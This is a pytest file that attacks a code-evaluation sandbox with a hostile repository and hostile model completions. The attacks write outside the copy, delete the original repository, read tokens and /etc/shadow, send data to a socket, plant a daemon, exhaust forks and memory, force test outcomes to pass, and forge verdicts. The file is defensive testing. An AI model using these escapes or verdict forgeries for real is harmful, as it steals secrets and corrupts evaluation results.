"""The sandbox against a hostile repository and hostile model completions (issue 13).

Every attack below is real code run in the real sandbox (bubblewrap, cgroups, the verdict
channel); the assertions are about what the attacks achieved, measured from outside the
sandbox: files outside the copy, the original repository's bytes, processes still alive after
the run, connections a server of this test received, secrets seen, and the verdicts/statuses
the harness recorded. Each attack is bounded (at most 150 forks, stopped below 200 tasks, ~2.4 GiB across three
processes during the build's run and far less elsewhere, seconds of wall clock).

The hostile repository lives in a folder under the project checkout on purpose: /tmp and the
home folders are hidden inside the sandbox, so a repository there would not test that the
visible filesystem is read-only.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from crossfile_datasets.core.repository_roots import without_root, write_roots
from crossfile_datasets import sandbox as sandbox_module
from crossfile_datasets.builders.executable.build import ExecSettings, build_repository
from crossfile_datasets.core.report import BuildReport
from crossfile_datasets.sandbox import TASKS_PER_PROCESS, Sandbox, SandboxLimits, SandboxUnavailable
from crossfile_datasets.sandbox.channel import parse_records
from crossfile_datasets.sandbox.problems import run_problem_tests
from crossfile_datasets.sandbox.pytest_runs import run_pytest, summarize_outcomes
from crossfile_datasets.sandbox.isolation import hidden_dirs, require_bwrap
from crossfile_datasets.evaluation.executable import RunSettings, evaluate_executable
from crossfile_datasets.core.jsonl import InputError
from tests.executable.conftest import make_repo

PROJECT = Path(__file__).resolve().parents[2]


def visible_scratch() -> Path:
    """A writable folder the sandbox shows as it is (read-only), so an attack's write outside
    the copy would land in the real filesystem and be seen. The checkout is the natural place,
    but a clone under /tmp or /home (as on many CI machines) sits in a folder the sandbox hides
    behind an empty tmpfs, where every escape would look contained for the wrong reason."""
    hidden = hidden_dirs()
    for candidate in (PROJECT, Path("/var/cache"), Path("/opt"), Path("/srv")):
        inside_hidden = any(candidate == Path(d) or Path(d) in candidate.parents for d in hidden)
        if candidate.is_dir() and os.access(candidate, os.W_OK) and not inside_hidden:
            return candidate
    pytest.fail(f"no writable folder outside the sandbox's hidden folders {hidden}")
SECRET = f"hf_crossfile_{uuid.uuid4().hex}"

BOOK = '''"""Entries of a small household ledger."""


def balance(entries):
    """Sum the signed amounts of all the ledger entries."""
    total = 0
    for amount in entries:
        total += amount
    return total
'''

GOOD_TEST = '''from ledger.book import balance


def test_balance_of_mixed_entries():
    assert balance([5, -2, 10]) == 13


def test_balance_of_nothing():
    assert balance([]) == 0
'''

# A conftest.py that turns every failure into a pass: the attack on the evaluator's source folder.
PASSING_CONFTEST = '''import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
'''

# The attacks, as functions returning True when they achieved something. Parameters are
# filled in by attack_source(); the same text serves as a repository test module and inside a
# model completion.
ATTACKS = '''
import ctypes, os, socket, sqlite3, stat, subprocess, sys, time

OUT = {out!r}
ORIGINAL = {original!r}
SECRET = {secret!r}
HF_HOME = {hf_home!r}
WATCHER_PID = {watcher!r}
PORT = {port!r}
MARKER = {marker!r}
MEMORY_EACH = {memory_each!r}
CONFTEST = {conftest!r}


def _made(name):
    return os.path.exists(os.path.join(OUT, name))


def attack_os_system():
    os.system("echo x > %s/system.txt" % OUT)
    return _made("system.txt")


def attack_subprocess():
    subprocess.run(["sh", "-c", "echo x > %s/subprocess.txt" % OUT])
    return _made("subprocess.txt")


def attack_python_isolated():
    subprocess.run([sys.executable, "-I", "-c", "open(%r, 'w').write('x')" % os.path.join(OUT, "isolated.txt")])
    return _made("isolated.txt")


def attack_ctypes():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.creat(os.path.join(OUT, "ctypes.txt").encode(), 0o644)
    return fd >= 0


def attack_dir_fd():
    folder = os.open(OUT, os.O_RDONLY)
    try:
        os.close(os.open("dirfd.txt", os.O_CREAT | os.O_WRONLY, dir_fd=folder))
    finally:
        os.close(folder)
    return _made("dirfd.txt")


def attack_mkfifo():
    os.mkfifo(os.path.join(OUT, "fifo"))
    return _made("fifo")


def attack_mknod():
    os.mknod(os.path.join(OUT, "node"), 0o600 | stat.S_IFREG)
    return _made("node")


def attack_sqlite():
    sqlite3.connect(os.path.join(OUT, "db.sqlite")).execute("create table t (x)")
    return _made("db.sqlite")


def attack_unix_socket():
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(os.path.join(OUT, "sock"))
    return _made("sock")


def attack_delete_original():
    os.system("rm -rf %s/ledger %s/tests" % (ORIGINAL, ORIGINAL))
    return not os.path.exists(os.path.join(ORIGINAL, "ledger", "book.py"))


def attack_conftest_in_original():
    with open(os.path.join(ORIGINAL, "conftest.py"), "w") as fh:
        fh.write(CONFTEST)
    return True


def attack_read_secrets():
    seen = []
    if SECRET in repr(dict(os.environ)):
        seen.append("environment")
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(WATCHER_PID)]:
        try:
            with open("/proc/%s/environ" % pid, "rb") as fh:
                if SECRET.encode() in fh.read():
                    seen.append("/proc/%s/environ" % pid)
        except OSError:
            pass
    try:
        with open(os.path.join(HF_HOME, "token")) as fh:
            if SECRET in fh.read():
                seen.append("HF_HOME/token")
    except OSError:
        pass
    for folder in ("/root", "/home"):
        try:
            for name in os.listdir(folder):
                if name not in (".pyenv",) and not name.startswith("crossfile"):
                    seen.append("%s/%s" % (folder, name))
        except OSError:
            pass
    try:
        with open("/etc/shadow") as fh:
            if fh.read().strip():
                seen.append("/etc/shadow")
    except OSError:
        pass
    return seen  # a test asserting it gets "assert []" in its failure message when nothing was seen


def attack_network():
    conn = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    conn.sendall(b"stolen")
    conn.close()
    return True


def attack_daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            os.execv("/bin/sh", ["sh", "-c", "sleep 2; echo alive > %s/daemon.txt; exec sleep 30 %s" % (OUT, MARKER)])
        os._exit(0)
    time.sleep(0.2)
    return True


def attack_leave_cgroup_and_fork():
    moved = []
    for procs in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                  "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(procs, "w") as fh:
                fh.write(str(os.getpid()))
            moved.append(procs)
        except OSError:
            pass
    children = []
    for _ in range(150):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    return bool(moved) or len(children) >= 150


def attack_memory():
    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            block = b"x" * MEMORY_EACH
            time.sleep(1.5)
            os._exit(0 if block else 1)
        children.append(pid)
    statuses = [os.waitpid(pid, 0)[1] for pid in children]
    return all(status == 0 for status in statuses)
'''

BOUNDARY_ATTACKS = ("os_system", "subprocess", "python_isolated", "ctypes", "dir_fd", "mkfifo", "mknod", "sqlite",
                    "unix_socket", "delete_original", "conftest_in_original", "network", "daemon",
                    "leave_cgroup_and_fork")
ATTACK_NAMES = (*BOUNDARY_ATTACKS, "read_secrets", "memory")


class Target:
    """The folders, processes and server an attack aims at, all outside the sandbox."""

    def __init__(self, base: Path, memory_each: int) -> None:
        self.base = base
        self.out = base / "outside"
        self.original = base / "ledger-repo"
        self.hf_home = base / "hf-home"
        for d in (self.out, self.original, self.hf_home):
            d.mkdir(parents=True)
        (self.hf_home / "token").write_text(SECRET)
        self.marker = f"crossfile-daemon-{uuid.uuid4().hex}"
        self.memory_each = memory_each
        # a process holding the secret in its (initial) environment, like the builder
        self.watcher = subprocess.Popen(["sleep", "120"], env={"HF_TOKEN": SECRET, "PATH": os.defpath})
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.received.append(conn.recv(100) or b"<connected>")
            conn.close()

    def source(self) -> str:
        return ATTACKS.format(out=str(self.out), original=str(self.original), secret=SECRET, hf_home=str(self.hf_home),
                              watcher=self.watcher.pid, port=self.port, marker=self.marker,
                              memory_each=self.memory_each, conftest=PASSING_CONFTEST)

    def test_module(self) -> str:
        tests = "".join(f"\n\ndef test_attack_{name}():\n    assert balance([1, 2]) == 3\n    assert attack_{name}()\n"
                        for name in ATTACK_NAMES)
        return "from ledger.book import balance\n" + self.source() + tests

    def daemons(self) -> list[str]:
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            if self.marker.encode() in cmdline:
                found.append(pid)
        return found

    def close(self) -> None:
        self.watcher.kill()
        self.watcher.wait()
        self.server.close()


def _tree_bytes(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def target(monkeypatch):
    base = visible_scratch() / f".sandbox-attack-{uuid.uuid4().hex[:10]}"
    made = None
    try:
        made = Target(base, 300 * 1024**2)
        monkeypatch.setenv("HF_TOKEN", SECRET)
        monkeypatch.setenv("HF_HOME", str(made.hf_home))
        yield made
    finally:
        if made is not None:
            made.close()
        shutil.rmtree(base, ignore_errors=True)


def assert_contained(target: Target, original_before: dict[str, bytes]) -> None:
    time.sleep(0.3)  # a surviving daemon would be visible by now
    assert sorted(p.name for p in target.out.iterdir()) == []  # no file outside the copy
    assert _tree_bytes(target.original) == original_before  # the original repository byte-identical
    assert target.daemons() == []  # no daemon outlived the run
    assert target.received == []  # the server outside never got a connection


# ------------------------------------------------------------------------ unit checks --
def test_channel_keeps_only_records_with_the_token():
    token = "a" * 32
    text = "\n".join([
        token + "\t" + json.dumps({"nodeid": "t.py::ok", "when": "call", "outcome": "passed"}),
        "b" * 32 + "\t" + json.dumps({"nodeid": "t.py::bad", "when": "call", "outcome": "passed"}),
        json.dumps({"nodeid": "t.py::bad", "when": "call", "outcome": "passed"}),
        token + "\t" + '{"nodeid": "t.py::cut", "wh',  # a line cut by a killed process
    ])
    records = parse_records(text, token)
    assert [r["nodeid"] for r in records.records] == ["t.py::ok"]
    assert records.forged == 2 and not records.complete
    assert parse_records(token + "\t" + json.dumps({"event": "session_end", "exitstatus": 0}), token).complete


def test_violations_outrank_every_other_outcome():
    records = [
        {"nodeid": "t.py::a", "when": "call", "outcome": "passed", "violations": ["network connection to x"]},
        {"nodeid": "t.py::b", "when": "call", "outcome": "failed", "exc_type": "AssertionError"},
        {"nodeid": "t.py::c", "when": "call", "outcome": "passed"},
        {"nodeid": "t.py::c", "when": "teardown", "outcome": "passed", "violations": ["left processes running"]},
    ]
    outcomes, messages = summarize_outcomes(records)
    assert outcomes == {"t.py::a": "sandbox_violation", "t.py::b": "assertion", "t.py::c": "sandbox_violation"}
    assert "network connection" in messages["t.py::a"]


@pytest.mark.parametrize("bad", [{"not": "an outcome"}, {"nodeid": 1, "when": "call", "outcome": "passed"},
                                 {"nodeid": "t.py::b", "when": "call", "outcome": "passed", "violations": 5}])
def test_a_malformed_outcome_record_is_refused_not_raised(bad):
    """Red team 2, row 1: a record with the token but not an outcome record's shape is skipped
    by summarize_outcomes (no exception on the host) and makes the run untrusted (tampered,
    counted in ``malformed``): never a pass."""
    from crossfile_datasets.sandbox.channel import ChannelRecords
    from crossfile_datasets.sandbox.pytest_runs import refuse_malformed

    good = {"nodeid": "t.py::a", "when": "call", "outcome": "passed"}
    assert summarize_outcomes([good, bad])[0] == {"t.py::a": "passed"}
    channel = refuse_malformed(ChannelRecords(records=[good, bad], session_end={"event": "session_end"}))
    assert channel.records == [good] and channel.malformed == 1
    assert not channel.complete and "malformed" in channel.tampered


def test_execution_refuses_to_start_without_bubblewrap(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    require_bwrap.cache_clear()
    try:
        with pytest.raises(SandboxUnavailable, match="bubblewrap .* not installed.*--sandbox none"):
            Sandbox(None, python=sys.executable)
    finally:
        require_bwrap.cache_clear()


def test_opt_out_is_explicit_and_warned(monkeypatch, capsys):
    sandbox_module._WARNED.clear()
    monkeypatch.setenv("CROSSFILE_SANDBOX", "none")
    with Sandbox(None, python=sys.executable, limits=SandboxLimits(timeout=20)) as box:
        run = box.run([sys.executable, "-c", "print('hi')"])
    assert run.isolation == "none" and run.result.stdout.strip() == "hi"
    assert "WITHOUT isolation" in capsys.readouterr().err
    monkeypatch.setenv("CROSSFILE_SANDBOX", "nothing")
    with pytest.raises(SandboxUnavailable, match="expected one of bwrap, none"):
        Sandbox(None, python=sys.executable)


def test_wall_clock_and_per_process_memory_limits():
    limits = SandboxLimits(timeout=3, memory_bytes=512 * 1024**2, max_processes=8)
    with Sandbox(None, python=sys.executable, limits=limits) as box:
        started = time.monotonic()
        loop = box.run([sys.executable, "-c", "while True:\n    pass\n"])
        elapsed = time.monotonic() - started
        # its own generous wall clock: on a loaded machine the interpreter alone may need seconds
        hog = box.run([sys.executable, "-c", "chunks = []\nwhile True:\n    chunks.append(bytearray(32 * 1024 * 1024))\n"],
                      timeout=60)
    assert loop.timed_out and elapsed < limits.timeout + 5
    assert not hog.timed_out and hog.result.returncode != 0 and "MemoryError" in hog.result.stderr


ORDINARY_SUITE = '''import socket, subprocess, sys

import pytest


@pytest.fixture(scope="session")
def helper_process():
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    yield proc
    proc.kill()
    proc.wait()


def test_loopback_server_of_its_own(helper_process):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname())
    accepted, _ = server.accept()
    client.sendall(b"hi")
    assert accepted.recv(2) == b"hi"


def test_writes_in_tmp_and_in_the_copy(tmp_path):
    (tmp_path / "x.txt").write_text("x")
    with open("local.txt", "w") as fh:
        fh.write("y")


def test_refused_connection_it_expects():
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", 9), timeout=2)
'''


def test_ordinary_tests_are_not_violations():
    """Regression: loopback servers of the test's own, a session fixture's child process,
    writes in /tmp and in the copy, and a refusal the test expects are fine."""
    with Sandbox(None, python=sys.executable, limits=SandboxLimits(timeout=60)) as box:
        box.write("test_ordinary.py", ORDINARY_SUITE)
        prun = run_pytest(box, ["test_ordinary.py"])
    assert prun.complete
    assert set(prun.outcomes.values()) == {"passed"} and len(prun.outcomes) == 3, prun.messages


# ---------------------------------------------------------------- attacks, one sandbox --
@pytest.mark.slow
def test_attacks_in_one_sandbox_run(target):
    """Every attack as a test of one pytest run, with small limits."""
    make_repo(target.original, {"ledger/__init__.py": "", "ledger/book.py": BOOK, "tests/test_book.py": GOOD_TEST},
              "ledger")
    before = _tree_bytes(target.original)
    limits = SandboxLimits(timeout=60, memory_bytes=768 * 1024**2, max_processes=24, test_timeout=20)
    with Sandbox(target.original, python=sys.executable, limits=limits) as box:
        box.write("tests/test_attacks.py", target.test_module())
        prun = run_pytest(box, ["tests/test_attacks.py", "tests/test_book.py"])
        # the copy is writable, the home is private: both are the sandbox's own
        assert (box.root / "tests" / "test_attacks.py").exists()
    assert prun.complete and prun.forged_records == 0
    assert prun.run.isolation == "bwrap" and "pids" in prun.run.process_limit_mode
    outcomes = {n.split("::test_attack_")[-1]: o for n, o in prun.outcomes.items() if "test_attack_" in n}
    assert sorted(outcomes) == sorted(ATTACK_NAMES)
    for name in BOUNDARY_ATTACKS:
        assert outcomes[name] == "sandbox_violation", (name, prun.messages.get(f"tests/test_attacks.py::test_attack_{name}"))
    assert outcomes["read_secrets"] == "assertion"  # it saw nothing, so its own check failed
    assert prun.messages["tests/test_attacks.py::test_attack_read_secrets"].startswith("AssertionError: assert []")
    assert outcomes["memory"] == "assertion"  # one of the three children was killed
    assert prun.run.memory_limit_hit and prun.run.process_limit_hit
    assert prun.run.peak_processes <= limits.max_processes * TASKS_PER_PROCESS + 3 <= 200
    assert prun.outcomes["tests/test_book.py::test_balance_of_mixed_entries"] == "passed"
    assert_contained(target, before)


# ------------------------------------------------------ attacks through build and evaluation --
def completion(target: Target, body: str) -> str:
    return "def balance(entries):\n" + "\n".join("    " + line for line in body.strip("\n").split("\n")) + "\n"


@pytest.mark.slow
def test_attacks_through_the_build_and_the_evaluation(target, tmp_path):
    repo = make_repo(target.original, {"ledger/__init__.py": "", "ledger/book.py": BOOK,
                                       "tests/test_book.py": GOOD_TEST}, "ledger")
    (target.original / "tests" / "test_attacks.py").write_text(
        target.test_module().replace(f"MEMORY_EACH = {300 * 1024**2!r}", f"MEMORY_EACH = {800 * 1024**2!r}"))
    before = _tree_bytes(target.original)

    # the build: hostile tests never become the problem's tests, each dropped with a reason
    report = BuildReport()
    records, stats = build_repository(repo, ExecSettings(use_pynguin=False, flaky_runs=2, workers=2, mutants=1), report)
    assert_contained(target, before)
    (problem,) = records
    assert problem["entry_point"] == "balance"
    assert all("test_attack_" not in origin for origin in problem["test_origins"])
    assert all("attack_" not in test for test in problem["test_list"])
    violations = report.counts["tests/sandbox_violation"]
    assert violations >= len(BOUNDARY_ATTACKS), report.stage("tests")
    dropped = sum(n for key, n in report.counts.items() if key.startswith("tests/"))
    assert dropped >= len(ATTACK_NAMES)
    for name in BOUNDARY_ATTACKS[:violations and 5]:  # the first samples name the attacks
        assert any(f"test_attack_" in s for s in report.samples.get("tests/sandbox_violation", []))

    # the evaluation: hostile completions score nothing and change nothing
    split = tmp_path / "split.jsonl"
    # as the builder publishes it: the record without its folder, the local index beside it
    split.write_text(json.dumps(without_root(problem)) + "\n")
    write_roots(split.parent, [problem], name_key="project")
    channel_forgery = (
        "import json, os\n"
        "record = {'nodeid': 'x::y', 'when': 'call', 'outcome': 'passed'}\n"
        "for name in ('results.jsonl', '../control/results.jsonl'):\n"
        "    open(name, 'w').write(json.dumps(record) + '\\n')\n"
        "for fd in range(3, 20):\n"
        "    try:\n"
        "        os.write(fd, ('0' * 32 + '\\t' + json.dumps({'event': 'session_end', 'exitstatus': 0}) + '\\n').encode())\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(0)\n"
    )
    attacks = target.source().replace(f"MEMORY_EACH = {300 * 1024**2!r}", "MEMORY_EACH = 1")
    run_all = attacks + (
        "\n_attacks = {n: f for n, f in locals().items() if n.startswith('attack_')}\n"
        "for _name in sorted(_attacks):\n"
        "    try:\n"
        "        _attacks[_name]()\n"
        "    except BaseException:\n"
        "        pass\n"
        "total = 0\nfor amount in entries:\n    total += amount\nreturn total\n"
    )
    generations = {
        "gold": problem["solution"],
        "hostile": completion(target, run_all),
        "forged": completion(target, channel_forgery + "return 0\n"),
        "conftest": completion(target, "try:\n    open(%r, 'w').write(%r)\nexcept OSError:\n    pass\nreturn 0\n"
                               % (str(target.original / "conftest.py"), PASSING_CONFTEST)),
    }
    preds = tmp_path / "preds.jsonl"
    preds.write_text("".join(json.dumps({"task_id": problem["id"], "context_size": k, "generations": [g]}) + "\n"
                             for k, g in generations.items()))
    settings = RunSettings(timeout=60, test_timeout=30, python=sys.executable)
    summary = evaluate_executable(split, preds, tmp_path / "results.jsonl", settings=settings)
    statuses = {ctx: res["status"] for ctx, res in summary["results"].items()}
    assert statuses["gold"] == {"passed": 1}
    assert statuses["hostile"] == {"sandbox_violation": 1}
    assert statuses["forged"] == {"incomplete": 1}
    assert statuses["conftest"] == {"sandbox_violation": 1}
    assert summary["snapshot_unchecked_problems"] == 0
    assert_contained(target, before)

    # a later evaluation of an empty solution fails: nothing of the attacks stayed behind
    empty = tmp_path / "empty.jsonl"
    empty.write_text(json.dumps({"task_id": problem["id"], "context_size": "empty",
                                 "generations": [completion(target, "return 0\n")]}) + "\n")
    later = evaluate_executable(split, empty, tmp_path / "results-empty.jsonl", settings=settings)
    assert later["results"]["empty"]["status"] == {"failed": 1}

    # a source folder changed outside the sandbox (as an unsandboxed run could) is refused
    (target.original / "conftest.py").write_text(PASSING_CONFTEST)
    with pytest.raises(InputError, match="differ from the snapshot"):
        evaluate_executable(split, empty, tmp_path / "results-changed.jsonl", settings=settings)


def test_forged_results_and_early_exit_fail_in_the_problem_runner(target):
    """The runner of record directly: a wrong solution that forges its verdict is not a pass."""
    make_repo(target.original, {"ledger/__init__.py": "", "ledger/book.py": BOOK}, "ledger")
    from crossfile_datasets.sandbox.checks import render_check

    problem = {"repository_root": str(target.original), "file": "ledger/book.py", "qualname": "balance",
               "entry_point": "balance", "class_name": "", "python_path": [""], "requirements": [],
               "check": render_check("ledger.book.balance", "ledger/book.py", ["tests/test_check.py"], [GOOD_TEST])}
    forged = completion(target, "import os\nopen('results.jsonl', 'w').write('{}')\nos._exit(0)\n")
    verdict = run_problem_tests(problem, forged, 60, python=sys.executable, pytest_plugins=())
    assert verdict["status"] == "incomplete" and not verdict["passed"]
    gold = run_problem_tests(problem, BOOK, 60, python=sys.executable, pytest_plugins=())
    assert gold["status"] == "passed" and gold["num_passed"] == 2


# ------------------------------------------------------------------ pure pieces --
def test_bwrap_command_hides_homes_and_binds_the_interpreter_back(tmp_path, monkeypatch):
    from crossfile_datasets.sandbox.isolation import bwrap_argv

    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    (tmp_path / "hf").mkdir()
    writable = tmp_path / "box"
    argv = bwrap_argv("/usr/bin/bwrap", writable=writable, cwd=writable / "repo",
                      read_only=["/root/.pyenv/versions/3.11.7", "/usr/lib/python3", str(writable / "inside")])
    pairs = list(zip(argv, argv[1:]))
    assert ("--ro-bind", "/") in pairs and ("--tmpfs", "/root") in pairs and ("--tmpfs", "/tmp") in pairs
    assert ("--tmpfs", str(tmp_path / "hf")) not in pairs  # under /tmp: hidden with it
    assert ("--ro-bind", "/dev/null") in pairs  # /etc/shadow and the like read empty
    # bound back after its folder was hidden; folders that are not hidden need no binding
    assert argv.index("/root/.pyenv/versions/3.11.7") > argv.index("/root")
    assert "/usr/lib/python3" not in argv and str(writable / "inside") not in argv
    # the sandbox folder is the one writable binding, then the namespaces
    assert argv[argv.index("--bind") + 1] == str(writable)
    assert {"--unshare-all", "--unshare-user", "--disable-userns", "--die-with-parent"} <= set(argv)
    assert argv[argv.index("--cap-drop") + 1] == "ALL" and argv[-2:] == ["--chdir", str(writable / "repo")]


def test_cgroup_event_counts_read_from_captured_files(tmp_path):
    from crossfile_datasets.sandbox.isolation import _event_count

    # memory.oom_control of cgroup v1 and pids.events, as this machine's kernel writes them
    (tmp_path / "memory.oom_control").write_text("oom_kill_disable 0\nunder_oom 0\noom_kill 2\n")
    (tmp_path / "pids.events").write_text("max 17\n")
    assert _event_count(tmp_path, "memory.oom_control", "oom_kill") == 2
    assert _event_count(tmp_path, "pids.events", "max") == 17
    assert _event_count(tmp_path, "memory.events", "oom_kill") == 0  # missing file
    assert _event_count(None, "pids.events", "max") == 0


def test_cgroups_of_a_killed_harness_are_swept():
    """Regression: a build killed mid-run (kill-and-resume) left empty run cgroups behind for
    good; the next run removes empty ones older than STALE_CGROUP_SECONDS, never a fresh one."""
    from crossfile_datasets.sandbox.isolation import STALE_CGROUP_SECONDS, TreeLimits

    probe = TreeLimits.create(64 * 1024**2, 4)
    if probe is None:
        pytest.skip("this machine lets the builder create no cgroup")  # the rlimit fallback has nothing to sweep
    parent = next(iter(probe.folders.values())).parent
    probe.close()
    stale, fresh = parent / f"crossfile-stale{uuid.uuid4().hex[:6]}", parent / f"crossfile-fresh{uuid.uuid4().hex[:6]}"
    stale.mkdir()
    fresh.mkdir()
    try:
        old = time.time() - STALE_CGROUP_SECONDS - 60
        os.utime(stale, (old, old))
        TreeLimits.create(64 * 1024**2, 4).close()
        assert not stale.exists() and fresh.exists()
    finally:
        for folder in (stale, fresh):
            if folder.exists():
                folder.rmdir()


USERNS_PROBE = r'''
import ctypes, json, os, subprocess, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
out = {"uid": os.getuid(), "groups": os.getgroups()}
out["unshare_user"] = [libc.unshare(0x10000000), ctypes.get_errno()]
out["clone3"] = [libc.syscall(435, None, 0), ctypes.get_errno()]
done = []
thread = threading.Thread(target=done.append, args=[1])
thread.start(); thread.join()
out["thread"] = done == [1]
out["child"] = subprocess.run(["/bin/sh", "-c", "echo child"], capture_output=True, text=True).stdout.strip()
open("written-by-the-run", "w").write("x")
print(json.dumps(out))
'''


@pytest.mark.skipif(not sys.platform.startswith("linux") or os.uname().machine != "x86_64", reason="x86-64 numbers")
def test_a_run_makes_no_user_namespace_and_as_root_builder_gets_a_uid_of_its_own(monkeypatch):
    """Red team 4 (rows 1, 10): with the builder root, a run's programs have a kernel uid of
    their own (no user namespace of ours maps them to root any more), so the seccomp filter is
    what refuses a new user namespace (``unshare``/``clone`` with ``CLONE_NEWUSER``; ``clone3``
    gets ENOSYS, from which threads and children fall back to ``clone``); the run still writes
    its copy, starts threads and child processes."""
    monkeypatch.delenv("CROSSFILE_SANDBOX_UID", raising=False)  # the default: a uid of its own
    with Sandbox(None, python=sys.executable, limits=SandboxLimits(timeout=60)) as box:
        run = box.run([sys.executable, "-c", USERNS_PROBE], timeout=60)
        written = (box.root / "written-by-the-run").exists()
    if run.result.returncode != 0:
        pytest.fail(f"the probe failed: {run.result.stderr[-2000:]}")
    seen = json.loads(run.result.stdout.strip().splitlines()[-1])
    assert seen["unshare_user"] == [-1, 1], seen  # EPERM
    assert seen["clone3"] == [-1, 38], seen  # ENOSYS
    assert seen["thread"] and seen["child"] == "child" and written, seen
    if os.geteuid() == 0 and shutil.which("setpriv") and os.environ.get("CROSSFILE_SANDBOX_UID") != "builder":
        assert seen["uid"] >= 2_000_000_000 and seen["groups"] == [], seen
